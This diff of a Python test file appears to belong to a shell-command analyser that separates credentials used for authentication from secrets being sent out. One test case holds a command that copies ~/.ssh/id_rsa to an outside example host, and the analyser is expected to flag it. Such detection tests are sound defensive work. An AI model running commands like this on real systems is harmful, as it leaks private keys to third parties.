@@ -194,6 +194,10 @@ def test_a_key_a_tool_authenticates_with_is_not_what_it_sends() -> None:
         f.kind
         for f in shell.analyse("scp -i ~/.ssh/deploy dist/app.tgz deploy@h.example.com:/srv/\n")
     }
+    assert SECRET_FLOW not in {
+        f.kind
+        for f in shell.analyse("curl --netrc-file=~/.netrc -d @r.json https://a.example.com\n")
+    }
     assert SECRET_FLOW in {f.kind for f in shell.analyse("scp ~/.ssh/id_rsa u@x.example.net:/t/\n")}
 
 
